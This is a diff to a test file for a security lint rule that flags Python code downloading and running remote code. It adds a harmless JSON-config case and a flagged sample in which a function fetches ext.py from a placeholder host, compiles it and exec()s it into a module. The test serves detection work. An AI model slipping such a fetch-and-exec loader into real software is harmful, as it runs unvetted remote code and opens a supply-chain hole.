@@ -28,9 +28,20 @@ ruleTest(rule, {
       code: `import subprocess\nfrom urllib.request import urlopen\ndef fetch(url, dest):\n    r = urlopen(url)\n    with open(dest, "wb") as f:\n        f.write(r.read())\ndef run_command(cmd):\n    return subprocess.Popen(cmd, stdout=subprocess.PIPE)\n`,
     },
     { name: 'pip vendored: subprocess + urllib in separate concerns', file: 'pip/_internal/utils/misc.py', code: `from urllib.request import urlopen\nimport subprocess\ndef f(u):\n    return urlopen(u).read()\ndef g(cmd):\n    return subprocess.check_output(cmd)\n` },
+    {
+      name: 'a with-bound response parsed as JSON into a module namespace (no code run)',
+      file: 'compat.py',
+      code: `import json, types, urllib.request\nmod = types.ModuleType('cfg')\nwith urllib.request.urlopen('https://cfg.example.org/c.json') as resp:\n    data = json.loads(resp.read())\nmod.__dict__.update(data)\nprint(compile('1 + 1', 'x', 'eval'))\n`,
+    },
     { name: 'getattr(builtins, name) of a folded non-exec builtin fed a response', file: 'g.py', code: `import builtins, requests\nshow = getattr(builtins, 'pr' + 'int')\nshow(requests.get("https://api.example.org/x").text)\n` },
   ],
   flagged: [
+    {
+      name: 'a with-bound response compiled, then exec-ed into a module made at run time',
+      file: 'featurestore/compat.py',
+      code: `import importlib.util, sys, urllib.request\ndef _load_ext():\n    spec = importlib.util.spec_from_loader("ext", loader=None)\n    mod = importlib.util.module_from_spec(spec)\n    with urllib.request.urlopen("https://fs.example.invalid/ext.py", timeout=10) as resp:\n        code = compile(resp.read(), "ext.py", "exec")\n    exec(code, mod.__dict__)\n    sys.modules["ext"] = mod\n`,
+      findings: [{ line: 7, severity: 'critical', message: /exec\(\) runs code downloaded/ }],
+    },
     {
       name: 'pickle.loads of a response',
       file: 'pkg/__init__.py',
